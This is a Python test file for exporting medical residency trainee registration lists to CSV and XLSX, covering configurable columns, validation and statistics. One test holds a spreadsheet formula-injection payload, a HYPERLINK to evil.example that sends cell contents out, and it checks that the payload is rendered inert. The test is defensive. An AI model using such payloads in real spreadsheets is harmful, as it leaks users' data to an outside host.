"""The registration list, R156: whole identities, every digit kept, no formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from pydantic import ValidationError

from zhupei.catalogue import Catalogue
from zhupei.default_plugins.standard_kinds.registration_lists import RegistrationListParams
from zhupei.domain.admission import AdmissionStep
from zhupei.domain.people import TraineeType
from zhupei.domain.registration_columns import ExportColumn
from zhupei.domain.sources import Level
from zhupei.domain.text import Language, Text
from zhupei.services.papers.records import OpeningFigures, RegisteredTrainee
from zhupei.services.papers.registration_list import (
    DEFAULT_COLUMNS,
    columns_for,
    columns_of,
    registration_list_csv,
    registration_list_xlsx,
)
from zhupei.services.papers.spreadsheet import Column, write_csv, write_xlsx
from zhupei.services.papers.statistics import DEFAULT_COLUMNS as DEFAULT_STATISTICS
from zhupei.services.papers.statistics import (
    recruitment_statistics,
    statistics_columns_for,
    statistics_csv,
)

HKU = "hku-szh-residency-2026"
PEOPLE = (
    RegisteredTrainee(
        registration="r-2",
        name="李小明",
        document_kind="居民身份证",
        number="440300199901011234",
        base="hku-szh",
        opening=f"{HKU}/0200",
        trainee_type=TraineeType.ENTRUSTED,
        starts_on=date(2026, 9, 1),
        ends_on=None,
        agreement="three_party",
        sending_unit="=HYPERLINK(1)",
    ),
    RegisteredTrainee(
        registration="r-1",
        name="张三",
        document_kind="居民身份证",
        number="11010519491231002X",
        base="hku-szh",
        opening=f"{HKU}/0100",
        trainee_type=TraineeType.SOCIAL,
        starts_on=date(2026, 9, 1),
        ends_on=date(2029, 8, 31),
        agreement="labour_contract",
        degree="本科",
        phone="13800138000",
        channel=Text("批次招录"),
    ),
)


def test_csv(catalogue: Catalogue) -> None:
    rows = list(
        csv.reader(io.StringIO(registration_list_csv(catalogue, PEOPLE).decode("utf-8-sig")))
    )
    assert rows[1] == [
        "1", "r-1", "张三", "居民身份证", "11010519491231002X", "13800138000", "本科",
        "香港大学深圳医院", "0100", "内科", "", "2026", "社会人", "批次招录", "", "劳动合同",
        "2026-09-01", "2029-08-31",
    ]  # fmt: skip
    assert rows[2][10:] == [
        "", "2026", "外单位委托培训人员（单位人）", "", "'=HYPERLINK(1)", "三方委托培训协议",
        "2026-09-01", "",
    ]  # fmt: skip


def test_xlsx(catalogue: Catalogue) -> None:
    content = registration_list_xlsx(catalogue, PEOPLE)
    assert content == registration_list_xlsx(catalogue, tuple(reversed(PEOPLE)))
    sheet = openpyxl.load_workbook(io.BytesIO(content))["注册名单"]
    assert sheet["E3"].value == "440300199901011234"
    assert sheet["I2"].value == "0100"
    assert (sheet["O3"].value, sheet["O3"].data_type) == ("=HYPERLINK(1)", "s")
    assert sheet["Q2"].value.date() == date(2026, 9, 1)


def test_a_jurisdiction_chooses_its_columns_and_their_headings(catalogue: Catalogue) -> None:
    """The step of kind ``registration_list`` lists them; without it all that are known stand."""
    program = catalogue.programs[HKU]
    assert columns_of(program) == DEFAULT_COLUMNS
    params = RegistrationListParams.model_validate(
        {
            "columns": [
                {"field": "name"},
                {"field": "specialty_code", "header": {"zh": "代码", "en": "Code"}},
            ]
        }
    )
    step = AdmissionStep(
        id="list",
        kind="registration_list",
        label=Text("名单"),
        level=Level.JURISDICTION,
        params=params,
    )
    chosen = replace(program, steps=(*program.steps, step))
    columns = columns_of(chosen)
    assert columns == (
        ExportColumn(field="name", header=Text("姓名", "Name")),
        ExportColumn(field="specialty_code", header=Text("代码", "Code")),
    )
    text = registration_list_csv(catalogue, PEOPLE, columns).decode("utf-8-sig")
    assert text == "姓名,代码\r\n张三,0100\r\n李小明,0200\r\n"
    known = replace(catalogue, programs={**catalogue.programs, "other": chosen})
    assert columns_for(known, [HKU, "other"]) == DEFAULT_COLUMNS
    assert columns_for(known, ["other"]) == columns


def test_rows_fit_their_columns() -> None:
    with pytest.raises(ValueError, match="a row has 2 values for 1 columns"):
        write_csv([Column(header="一")], [["1", "2"]])
    with pytest.raises(ValueError, match="a row has 0 values for 1 columns"):
        write_xlsx("一", [Column(header="一")], [[]])


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "　＝"]
)
def test_no_text_is_calculated(sign: str) -> None:
    """R: a name is a name: in CSV with an apostrophe in front, in XLSX as a text."""
    text = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
    columns = [Column(header=text)]
    rows = list(csv.reader(io.StringIO(write_csv(columns, [[text], ["张三"]]).decode("utf-8-sig"))))
    assert rows == [[f"'{text}"], [f"'{text}"], ["张三"]]
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx("表", columns, [[text]]))).worksheets[0]
    assert [sheet.cell(row, 1).data_type for row in (1, 2)] == ["s", "s"]


def params(*columns: dict[str, object], **more: object) -> RegistrationListParams:
    return RegistrationListParams.model_validate({"columns": list(columns), **more})


def step_of(found: RegistrationListParams) -> AdmissionStep:
    return AdmissionStep(
        id="list", kind="registration_list", label=Text("名单"), level=Level.JURISDICTION,
        params=found,
    )  # fmt: skip


def test_the_form_that_a_province_asks_for(catalogue: Catalogue) -> None:
    """Order, headings, fixed texts, dates and codes of its own; still no formula."""
    found = params(
        {"text": "=620000", "header": {"zh": "=省份", "en": "Province"}},
        {"field": "number"},
        {"field": "starts_on", "format": "compact"},
        {"field": "ends_on", "format": "chinese", "header": {"zh": "结业", "en": "Ends"}},
        {
            "field": "channel",
            "codes": {"BATCH": "1", "DIRECT_ASSIGNMENT": "2", "DIRECT_REGISTRATION": "3"},
        },
    )
    program = catalogue.programs[HKU]
    columns = columns_of(replace(program, steps=(*program.steps, step_of(found))))
    people = (PEOPLE[0], replace(PEOPLE[1], codes={"channel": "BATCH"}))
    text = registration_list_csv(catalogue, people, columns).decode("utf-8-sig")
    assert text == (
        "'=省份,序号,培训开始日期,结业,招录方式\r\n"
        "'=620000,1,20260901,2029年8月31日,1\r\n"
        "'=620000,2,20260901,,\r\n"
    )
    english = registration_list_csv(catalogue, people, columns, Language.EN).decode("utf-8-sig")
    assert english.splitlines()[0] == "Province,No.,First day,Ends,Channel"
    book = openpyxl.load_workbook(io.BytesIO(registration_list_xlsx(catalogue, people, columns)))
    sheet = book["注册名单"]
    assert [(sheet[at].value, sheet[at].data_type) for at in ("A1", "A2", "C2", "D2")] == [
        ("=省份", "s"), ("=620000", "s"), ("20260901", "s"), ("2029年8月31日", "s"),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("column", "message"),
    [
        ({}, "a column has either a field or a text"),
        ({"field": "name", "text": "x"}, "a column has either a field or a text"),
        ({"text": "x"}, "a column with a text of its own needs a header"),
        ({"field": "name", "format": "compact"}, "only dates have a format: ends_on, starts_on"),
        (
            {"field": "name", "codes": {"x": "1"}},
            (
                "only these fields have codes: agreement, channel, degree, identity_kind, "
                "shortage, trainee_type"
            ),
        ),
        (
            {"field": "channel", "codes": {"BATCH": "1", "POST": "2"}},
            (
                "codes names each of BATCH, DIRECT_ASSIGNMENT, DIRECT_REGISTRATION; unknown: POST; "
                "missing: DIRECT_ASSIGNMENT, DIRECT_REGISTRATION"
            ),
        ),
    ],
)
def test_a_form_that_does_not_fit_is_refused(column: dict[str, object], message: str) -> None:
    with pytest.raises(ValidationError) as caught:
        params(column)
    error = caught.value.errors()[0]
    assert (error["type"], error["ctx"]["en"]) == ("CONFIG_EXPORT_COLUMN", message)


def test_statistics_have_a_form_as_well(catalogue: Catalogue) -> None:
    found = params(
        {"field": "name"},
        statistics=[
            {"field": "specialty_code"},
            {"field": "registered", "header": {"zh": "人数", "en": "People"}},
            {"field": "shortage", "codes": {"true": "1", "false": "0", "unknown": "9"}},
        ],
    )
    program = catalogue.programs[HKU]
    chosen = replace(program, steps=(*program.steps, step_of(found)))
    known = replace(catalogue, programs={**catalogue.programs, HKU: chosen})
    columns = statistics_columns_for(known, [HKU])
    assert [each.header.zh for each in columns] == ["专业代码", "人数", "紧缺专业"]
    figures = OpeningFigures(
        opening=f"{HKU}/0100", quota=4, quota_note=None, applications=3, admitted=2, registered=1,
        shortage=True,
    )  # fmt: skip
    report = recruitment_statistics([figures])
    text = statistics_csv(known, report, columns).decode("utf-8-sig")
    assert text == "专业代码,人数,紧缺专业\r\n0100,1,1\r\n合计,1,\r\n紧缺专业合计,,\r\n"
    assert statistics_columns_for(catalogue, [HKU]) == DEFAULT_STATISTICS
